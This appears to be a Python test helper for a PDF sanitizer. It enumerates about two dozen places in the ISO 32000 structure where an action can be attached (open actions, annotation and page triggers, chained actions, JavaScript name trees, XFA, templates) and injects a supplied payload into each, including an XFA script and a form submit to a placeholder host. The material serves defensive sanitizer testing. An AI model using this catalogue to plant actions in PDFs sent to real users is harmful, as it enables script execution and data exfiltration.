"""Every place where ISO 32000 lets an action stand: tie one there. Source: ISO 32000-2:2020, 12.6.3 and table 197 ff.

A viewer looks further than the specification: tables that are long gone, nodes of trees, and annotations that no page
lists are places too.
"""

from collections.abc import Callable
from typing import Final

from tests.sanitizers.pdf.poc_draft import HOST, Draft

Tie = Callable[[Draft, bytes], None]


def _open(draft: Draft, action: bytes) -> None:
    draft.catalog += b"/OpenAction %b" % action


def _document(draft: Draft, action: bytes) -> None:
    draft.catalog += b"/AA<<%b>>" % b"".join(b"/%b %b" % (key, action) for key in (b"WC", b"WS", b"DS", b"WP", b"DP"))


def _page(draft: Draft, action: bytes) -> None:
    draft.page += b"/AA<</O %b/C %b>>" % (action, action)


_TRIGGERS: Final = (b"E", b"X", b"D", b"U", b"Fo", b"Bl", b"PO", b"PC", b"PV", b"PI")


def _note(draft: Draft, action: bytes) -> None:
    draft.note += b"/A %b" % action


def _note_triggers(draft: Draft, action: bytes) -> None:
    draft.note += b"/AA<<%b>>" % b"".join(b"/%b %b" % (key, action) for key in _TRIGGERS)


def _capture(draft: Draft, action: bytes) -> None:
    draft.note += b"/PA %b" % action


def _every_kind_of_note(draft: Draft, action: bytes) -> None:
    kinds = b"Text FreeText Line Square Circle Polygon Highlight Stamp Ink Popup Caret Screen Movie Sound 3D RichMedia "
    kinds += b"FileAttachment PrinterMark TrapNet Watermark Redact Projection Hello"
    for kind in kinds.split():
        note = b"<</Type/Annot/Subtype/%b/Rect[0 0 9 9]/A %b/AA<</PO %b>>/PA %b>>" % (kind, action, action, action)
        draft.notes.append(draft.add(note))


def _widget(draft: Draft, action: bytes) -> None:
    draft.widget += b"/A %b/AA<<%b>>" % (action, b"".join(b"/%b %b" % (key, action) for key in (*_TRIGGERS, *_EDITS)))


_EDITS: Final = (b"K", b"F", b"V", b"C")


def _field(draft: Draft, action: bytes) -> None:
    extra = b"".join(b"/%b %b" % (key, action) for key in _EDITS)
    kid = draft.add(b"<</Type/Annot/Subtype/Widget/Rect[9 9 20 20]/P 3 0 R/A %b>>" % action)
    draft.notes.append(kid)
    parent = draft.add(b"<</FT/Tx/T(parent)/Kids[%b]/A %b/AA<<%b>>>>" % (kid, action, extra))
    draft.form += b"/CO[%b]/Hello[%b]" % (parent, parent)


def _bookmark(draft: Draft, action: bytes) -> None:
    draft.outline += b"/A %b/AA<</U %b>>" % (action, action)


def _chained(draft: Draft, action: bytes) -> None:
    chain = b"<</S/GoTo/D[3 0 R/Fit]/Next %b>>" % action
    draft.notes.append(draft.add(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %b>>" % chain))


def _chained_in_a_row(draft: Draft, action: bytes) -> None:
    chain = b"<</S/Named/N/NextPage/Next[<</S/GoTo/D[3 0 R/Fit]>>%b]>>" % action
    draft.notes.append(draft.add(b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A %b>>" % chain))


def _scripts(draft: Draft, action: bytes) -> None:
    draft.names += b"/JavaScript<</Kids[<</Limits[(a)(a)]/Names[(a)%b]>>]>>" % action


def _templates(draft: Draft, action: bytes) -> None:
    hidden = draft.add(b"<</Type/Template/MediaBox[0 0 9 9]/AA<</O %b>>>>" % action)
    draft.names += b"/Templates<</Names[(a)%b]>>/Pages<</Names[(b)%b]>>" % (hidden, hidden)


def _renditions(draft: Draft, action: bytes) -> None:
    draft.names += b"/Renditions<</Names[(a)<</Type/Rendition/S/MR/AA<</PV %b>>>>]>>" % action


def _slide_show(draft: Draft, action: bytes) -> None:
    draft.names += b"/AlternatePresentations<</Names[(a)<</Type/SlideShow/StartResource(a)/A %b>>]>>" % action


def _requirements(draft: Draft, action: bytes) -> None:
    draft.catalog += b"/Requirements[<</Type/Requirement/S/EnableJavaScripts/RH[<</S/JS/Script(a)/A %b>>]>>]" % action


def _xfa(draft: Draft, action: bytes) -> None:
    packet = b'<xdp:xdp><submit target="https://%b/"/><script>app.alert(1)</script></xdp:xdp>' % HOST.encode()
    draft.form += b"/XFA[(a)%b(b)%b]" % (draft.add_stream(packet), action)


def _base(draft: Draft, action: bytes) -> None:
    draft.catalog += b"/URI<</Base(https://%b/)/A %b>>" % (HOST.encode(), action)


def _presentation(draft: Draft, action: bytes) -> None:
    draft.page += b"/PresSteps<</Type/NavNode/NA %b/PA %b/Dur 1>>" % (action, action)


def _private(draft: Draft, action: bytes) -> None:
    draft.catalog += b"/PieceInfo<</Hello<</Private %b>>>>/Hello %b/Collection<</Navigator %b>>" % ((action,) * 3)
    draft.page += b"/PieceInfo<</Hello<</Private %b>>>>/Hello %b" % (action, action)


def _parts(draft: Draft, action: bytes) -> None:
    draft.catalog += b"/DPartRoot<</Type/DPartRoot/DPM<</A %b>>>>/Perms<</UR3 %b>>/Legal %b" % ((action,) * 3)


def _destination(draft: Draft, action: bytes) -> None:
    draft.names += b"/Dests<</Names[(a)<</D[3 0 R/Fit]/A %b>>(b)%b]>>" % (action, action)


PLACES: Final[dict[str, tuple[str, Tie]]] = {
    # where it stands: (vector, how it gets there)
    "when the document opens": ("PDF-01", _open),
    "when it is closed, saved or printed": ("PDF-02", _document),
    "when a page opens or closes": ("PDF-03", _page),
    "in a note": ("PDF-04", _note),
    "when something happens to a note": ("PDF-05", _note_triggers),
    "in a note of any kind": ("PDF-04", _every_kind_of_note),
    "in a widget": ("PDF-04", _widget),
    "in a field without a place": ("PDF-06", _field),
    "in a bookmark": ("PDF-05", _bookmark),
    "behind another action": ("PDF-08", _chained),
    "in a row behind another": ("PDF-08", _chained_in_a_row),
    "among the document's scripts": ("PDF-09", _scripts),
    "where captures came from": ("PDF-18", _capture),
    "among the renditions": ("PDF-27", _renditions),
    "in a slide show": ("PDF-28", _slide_show),
    "in a page that nobody sees": ("PDF-29", _templates),
    "in XFA": ("PDF-40", _xfa),
    "among the requirements": ("PDF-48", _requirements),
    "beside the base of addresses": ("PDF-17", _base),
    "in steps of a presentation": ("PDF-94", _presentation),
    "in private data": ("PDF-50", _private),
    "in parts, permissions and law": ("PDF-95", _parts),
    "beside a named place": ("PDF-49", _destination),
}
